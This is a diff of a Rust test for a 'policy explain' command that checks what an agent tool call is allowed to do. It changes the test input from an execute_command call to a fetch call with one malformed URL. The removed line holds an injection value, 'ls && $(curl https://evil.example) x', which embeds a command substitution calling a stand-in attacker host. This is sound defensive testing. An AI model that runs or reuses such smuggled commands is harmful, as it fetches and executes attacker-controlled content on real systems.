@@ -294,9 +294,9 @@ fn explain_json_marks_opaque_parts_like_the_text() {
             "--home",
             "/nonexistent-home",
             "--tool",
-            "execute_command",
+            "fetch",
             "--args",
-            r#"{"command":"ls && $(curl https://evil.example) x"}"#,
+            r#"{"url":["https://a.example/","::not a url"]}"#,
         ]);
         if json {
             cmd.arg("--json");
@@ -330,7 +330,7 @@ fn explain_json_marks_opaque_parts_like_the_text() {
         .map(|block| block.contains("opaque:     yes"))
         .collect();
     assert_eq!(json_marks, text_marks, "{text}\n{v}");
-    assert!(json_marks.contains(&true), "{text}");
+    assert_eq!(json_marks, [false, true], "{text}");
 }
 
 /// An allow rule for a host and method makes `policy explain` say that it trusted the
